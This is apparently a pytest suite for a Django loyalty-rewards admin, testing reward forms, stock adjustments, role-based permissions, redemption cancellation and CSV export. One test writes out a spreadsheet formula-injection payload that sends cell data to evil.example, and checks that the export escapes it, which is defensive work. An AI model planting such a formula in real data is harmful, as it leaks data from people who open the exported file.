"""Rewards in the admin: Marketing manages the catalogue and its stock; service staff cancel."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from http import HTTPStatus

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse

from loyalty.models import Account
from members.models import AuditEntry
from members.roles import CUSTOMER_SERVICE, MARKETING, OPERATOR, SUPERVISOR
from rewards.models import Redemption, Reward, StockMovement
from rewards.resources import RedemptionResource
from rewards.services import redemption_cancel, redemption_create
from tests.loyalty.staff import client_for, staff_user


def _messages(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


@pytest.fixture
def marketing(db):
    return client_for(staff_user(MARKETING, "marketer"))


@pytest.fixture
def redeemed(member, give_points, make_reward, system_actor):
    give_points(member, 2000)
    make_reward(code="FIVE_OFF", stock=5)
    make_reward(code="FREE_SHIP", kind="free_shipping", value=None, points_cost=300)
    first = redemption_create(member=member, reward_code="FIVE_OFF", actor=system_actor)
    second = redemption_create(member=member, reward_code="FIVE_OFF", actor=system_actor)
    redemption_cancel(redemption=second.redemption, actor=system_actor, reason="test")
    return first.redemption


def test_reward_list_shows_stock_left_and_recent_redemptions(
    marketing, redeemed, django_assert_max_num_queries
):
    with django_assert_max_num_queries(10):
        response = marketing.get(reverse("admin:rewards_reward_changelist"))

    assert response.status_code == HTTPStatus.OK
    rows = {r.code: r for r in response.context["cl"].result_list}
    admin_ = response.context["cl"].model_admin
    five_off, free_ship = rows["FIVE_OFF"], rows["FREE_SHIP"]
    assert (admin_.stock_left(five_off), admin_.redeemed_30_days(five_off)) == ("4", 1)
    assert (admin_.stock_left(free_ship), admin_.redeemed_30_days(free_ship)) == ("unlimited", 0)


def test_reward_change_page_opens(marketing, redeemed):
    reward = Reward.objects.get(code="FIVE_OFF")

    response = marketing.get(reverse("admin:rewards_reward_change", args=[reward.pk]))

    assert response.status_code == HTTPStatus.OK
    assert response.context["stock_url"] == reverse("admin:rewards_reward_stock", args=[reward.pk])
    assert b"Initial stock" in response.content


def test_marketing_adds_a_reward_through_the_service(marketing):
    response = marketing.post(
        reverse("admin:rewards_reward_add"),
        {
            "code": "TEN_OFF",
            "name": "£10 off",
            "description": "",
            "kind": "fixed_discount",
            "sku": "",
            "points_cost": "1000",
            "value": "10.00",
            "stock": "25",
            "coupon_valid_days": "60",
            "is_active": "on",
        },
    )

    assert response.status_code == HTTPStatus.FOUND, response.context["adminform"].form.errors
    reward = Reward.objects.get(code="TEN_OFF")
    assert (reward.points_cost, reward.value, reward.stock) == (1000, Decimal("10.00"), 25)
    assert AuditEntry.objects.filter(action="reward.create", target_id=str(reward.pk)).count() == 1
    movement = StockMovement.objects.get(reward=reward)
    assert (movement.delta, movement.stock_after, movement.actor_label) == (25, 25, "marketer")


def test_the_add_form_refuses_a_free_product_without_sku(marketing):
    response = marketing.post(
        reverse("admin:rewards_reward_add"),
        {
            "code": "MUG",
            "name": "A mug",
            "kind": "free_product",
            "sku": "",
            "points_cost": "800",
            "coupon_valid_days": "60",
        },
    )

    assert response.status_code == HTTPStatus.OK
    assert Reward.objects.filter(code="MUG").count() == 0
    form = response.context["adminform"].form
    assert form.errors == {"sku": ["Enter the SKU of the product “Free product” gives."]}


@pytest.mark.parametrize(
    ("fields", "errors"),
    [
        (
            {"kind": "fixed_discount", "value": ""},
            {"value": ["Enter the amount off, more than 0, for “Fixed amount off”."]},
        ),
        (
            {"kind": "percent_discount", "value": "150"},
            {"value": ["Enter the percentage off, above 0 and at most 100, for “Percentage off”."]},
        ),
        (
            {"kind": "free_shipping", "points_cost": "0"},
            {
                "points_cost": [
                    "A reward costs at least 1 point (only “Points as discount” lets the member "
                    "choose)."
                ]
            },
        ),
        (
            {
                "kind": "points_discount",
                "points_cost": "0",
                "min_points": "100",
                "min_share": "0.6",
                "max_share": "0.5",
            },
            {"min_share": ["The smallest share cannot be above the largest."]},
        ),
    ],
)
def test_a_kind_rule_is_a_sentence_next_to_its_field(marketing, fields, errors):
    data = {"code": "X", "name": "X", "points_cost": "100", "coupon_valid_days": "60", **fields}

    response = marketing.post(reverse("admin:rewards_reward_add"), data)

    assert response.status_code == HTTPStatus.OK
    form = response.context["adminform"].form
    assert form.errors == errors
    assert form.non_field_errors() == []
    assert "violated" not in response.content.decode()


def test_the_help_texts_name_the_kinds_as_staff_see_them(marketing):
    page = marketing.get(reverse("admin:rewards_reward_add")).content.decode()

    assert "fixed_discount:" not in page
    assert "points_discount:" not in page
    assert "“Fixed amount off”: the money off" in page
    assert 'data-kind-fields="' in page
    assert "backoffice/kind_fields.js" in page


def test_marketing_changes_a_reward_and_it_is_audited(marketing, make_reward):
    reward = make_reward(code="FIVE_OFF", stock=3)

    response = marketing.post(
        reverse("admin:rewards_reward_change", args=[reward.pk]),
        {
            "name": "£5 off anything",
            "description": "",
            "kind": "fixed_discount",
            "sku": "",
            "points_cost": "450",
            "value": "5.00",
            "coupon_valid_days": "90",
            "is_active": "on",
        },
    )

    assert response.status_code == HTTPStatus.FOUND
    reward.refresh_from_db()
    assert (reward.name, reward.points_cost, reward.stock) == ("£5 off anything", 450, 3)
    entry = AuditEntry.objects.get(action="reward.update")
    assert entry.changes == {"name": ["£5 off", "£5 off anything"], "points_cost": [500, 450]}


def test_a_redeemed_reward_cannot_be_deleted(marketing, redeemed):
    reward = Reward.objects.get(code="FIVE_OFF")

    response = marketing.post(
        reverse("admin:rewards_reward_delete", args=[reward.pk]), {"post": "yes"}
    )

    # Django lists the redemptions that protect it instead of deleting
    assert response.status_code == HTTPStatus.OK
    assert response.context["protected"]
    assert Reward.objects.filter(pk=reward.pk).exists()


def test_an_unused_reward_can_be_deleted(marketing, make_reward):
    reward = make_reward(code="DRAFT")

    marketing.post(reverse("admin:rewards_reward_delete", args=[reward.pk]), {"post": "yes"})

    assert not Reward.objects.filter(code="DRAFT").exists()
    assert AuditEntry.objects.filter(action="reward.delete").count() == 1


@pytest.mark.parametrize(
    ("form", "stock", "delta"),
    [
        ({"action": "adjust", "amount": "7"}, 10, 7),
        ({"action": "adjust", "amount": "-3"}, 0, -3),
        ({"action": "set", "amount": "40"}, 40, 37),
        ({"action": "unlimited"}, None, 0),
    ],
)
def test_stock_view_records_who_and_why(marketing, make_reward, form, stock, delta):
    reward = make_reward(code="LIMITED", stock=3)
    url = reverse("admin:rewards_reward_stock", args=[reward.pk])
    assert marketing.get(url).status_code == HTTPStatus.OK

    response = marketing.post(url, {**form, "reason": "delivery from the warehouse"})

    assert response.status_code == HTTPStatus.FOUND
    assert Reward.objects.get(pk=reward.pk).stock == stock
    movement = StockMovement.objects.filter(reward=reward).order_by("-id").first()
    assert (movement.delta, movement.stock_after, movement.actor_label, movement.reason) == (
        delta,
        stock,
        "marketer",
        "delivery from the warehouse",
    )


def test_stock_cannot_go_below_zero(marketing, make_reward):
    reward = make_reward(code="LIMITED", stock=3)

    response = marketing.post(
        reverse("admin:rewards_reward_stock", args=[reward.pk]),
        {"action": "adjust", "amount": "-4", "reason": "miscount"},
    )

    assert response.status_code == HTTPStatus.OK
    assert any("stock_negative" in m for m in _messages(response))
    assert Reward.objects.get(pk=reward.pk).stock == 3


@pytest.mark.parametrize("role", [CUSTOMER_SERVICE, SUPERVISOR, OPERATOR])
def test_only_marketing_changes_stock(make_reward, role):
    reward = make_reward(code="LIMITED", stock=3)
    client = client_for(staff_user(role, "someone"))

    response = client.post(
        reverse("admin:rewards_reward_stock", args=[reward.pk]),
        {"action": "adjust", "amount": "5", "reason": "x"},
    )

    assert response.status_code == HTTPStatus.FORBIDDEN
    assert Reward.objects.get(pk=reward.pk).stock == 3


def test_redemption_pages_open_read_only(marketing, redeemed):
    changelist = marketing.get(reverse("admin:rewards_redemption_changelist"))
    page = marketing.get(reverse("admin:rewards_redemption_change", args=[redeemed.pk]))
    search = marketing.get(
        reverse("admin:rewards_redemption_changelist"), {"q": redeemed.coupon_code}
    )

    assert changelist.status_code == page.status_code == HTTPStatus.OK
    assert [r.pk for r in search.context["cl"].result_list] == [redeemed.pk]
    assert "cancel_url" not in page.context  # Marketing may not cancel
    assert marketing.get(reverse("admin:rewards_stockmovement_changelist")).status_code == 200


@pytest.mark.parametrize("role", [CUSTOMER_SERVICE, SUPERVISOR])
def test_customer_service_cancels_an_unused_redemption_with_a_reason(redeemed, member, role):
    client = client_for(staff_user(role, "agent"))
    page = client.get(reverse("admin:rewards_redemption_change", args=[redeemed.pk]))
    url = reverse("admin:rewards_redemption_cancel", args=[redeemed.pk])
    assert page.context["cancel_url"] == url
    assert client.post(url, {"reason": "  "}).status_code == HTTPStatus.OK  # a reason is needed

    response = client.post(url, {"reason": "customer asked"})

    assert response.status_code == HTTPStatus.FOUND
    redeemed.refresh_from_db()
    assert (redeemed.status, redeemed.cancel_reason) == ("cancelled", "customer asked")
    assert redeemed.return_posting.actor_label == "agent"
    assert Account.objects.get(member=member).available == 2000  # both coupons returned


def test_cancelling_a_used_redemption_is_a_message_not_an_error(redeemed, system_actor):
    from rewards.services import redemption_use

    redemption_use(redemption=redeemed, order_id="O-1", actor=system_actor)
    client = client_for(staff_user(CUSTOMER_SERVICE, "agent"))

    response = client.post(
        reverse("admin:rewards_redemption_cancel", args=[redeemed.pk]), {"reason": "too late"}
    )

    assert response.status_code == HTTPStatus.FOUND
    assert any("redemption_used" in m for m in _messages(response))
    assert Redemption.objects.get(pk=redeemed.pk).status == "used"


@pytest.mark.parametrize("role", [MARKETING, OPERATOR])
def test_others_may_not_cancel(redeemed, role):
    client = client_for(staff_user(role, "someone"))

    response = client.post(
        reverse("admin:rewards_redemption_cancel", args=[redeemed.pk]), {"reason": "x"}
    )

    assert response.status_code == HTTPStatus.FORBIDDEN
    assert Redemption.objects.get(pk=redeemed.pk).status == "issued"


def test_nobody_edits_redemptions_in_the_admin(admin_client, redeemed):
    add = admin_client.get(reverse("admin:rewards_redemption_add"))
    change = admin_client.post(
        reverse("admin:rewards_redemption_change", args=[redeemed.pk]), {"status": "used"}
    )

    assert add.status_code == HTTPStatus.FORBIDDEN
    assert change.status_code == HTTPStatus.FORBIDDEN
    assert Redemption.objects.get(pk=redeemed.pk).status == "issued"


def test_member_page_lists_redemptions_with_cancel_links(redeemed, member):
    client = client_for(staff_user(CUSTOMER_SERVICE, "agent"))

    response = client.get(reverse("admin:members_member_change", args=[member.pk]))

    assert response.status_code == HTTPStatus.OK
    panel = next(p for p in response.context["member_panels"] if p.title == "Redemptions")
    cancel_urls = {row["redemption"].status: row["cancel_url"] for row in panel.context["rows"]}
    assert cancel_urls == {
        "issued": reverse("admin:rewards_redemption_cancel", args=[redeemed.pk]),
        "cancelled": None,
    }
    assert redeemed.coupon_code.encode() in response.content


def test_operator_exports_redemptions(redeemed):
    from rewards.resources import RedemptionResource

    client = client_for(staff_user(OPERATOR, "operator"))
    url = reverse("admin:rewards_redemption_export")
    assert client.get(url).status_code == HTTPStatus.OK
    formats = client.get(url).context["form"].fields["format"].choices
    csv = next(value for value, label in formats if label.lower() == "csv")
    fields = {
        f"redemptionresource_{name}": "on" for name in RedemptionResource().get_export_order()
    }

    response = client.post(url, {"format": csv, "resource": "0", **fields})

    assert response.status_code == HTTPStatus.OK
    lines = response.content.decode().splitlines()
    assert lines[0].split(",")[:5] == ["id", "coupon_code", "member", "reward", "kind"]
    assert sorted(line.split(",")[5] for line in lines[1:]) == ["cancelled", "issued"]
    assert any(redeemed.coupon_code in line and "C-1001,FIVE_OFF" in line for line in lines)


def test_redemption_export_escapes_formulas(member, give_points, make_reward, system_actor):
    give_points(member, 1000)
    make_reward(code="FIVE_OFF", stock=5)
    issued = redemption_create(member=member, reward_code="FIVE_OFF", actor=system_actor)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    redemption_cancel(redemption=issued.redemption, actor=system_actor, reason=formula)
    client = client_for(staff_user(OPERATOR, "operator"))
    url = reverse("admin:rewards_redemption_export")
    formats = {
        label.lower(): value
        for value, label in client.get(url).context["form"].fields["format"].choices
    }
    assert set(formats) - {"---"} == {"csv", "xlsx"}
    fields = {
        f"redemptionresource_{name}": "on" for name in RedemptionResource().get_export_order()
    }

    response = client.post(url, {"format": formats["csv"], "resource": "0", **fields})

    assert response.status_code == HTTPStatus.OK
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["cancel_reason"] for row in rows] == ["'" + formula]
    assert rows[0]["points_spent"] == str(issued.redemption.points_spent)  # numbers untouched


@pytest.mark.parametrize("role", [MARKETING, CUSTOMER_SERVICE, SUPERVISOR])
def test_only_the_operator_exports_redemptions(redeemed, role):
    client = client_for(staff_user(role, "someone"))

    response = client.get(reverse("admin:rewards_redemption_export"))

    assert response.status_code == HTTPStatus.FORBIDDEN


def test_member_page_links_to_the_members_redemptions(
    redeemed, member, make_member, give_points, system_actor
):
    other = make_member()
    give_points(other, 500)
    redemption_create(member=other, reward_code="FIVE_OFF", actor=system_actor)
    client = client_for(staff_user(CUSTOMER_SERVICE, "agent"))
    page = client.get(reverse("admin:members_member_change", args=[member.pk]))
    panel = next(p for p in page.context["member_panels"] if p.title == "Redemptions")

    response = client.get(panel.context["list_url"])

    assert response.status_code == HTTPStatus.OK
    assert sorted(r.member_id for r in response.context["cl"].result_list) == [member.pk] * 2
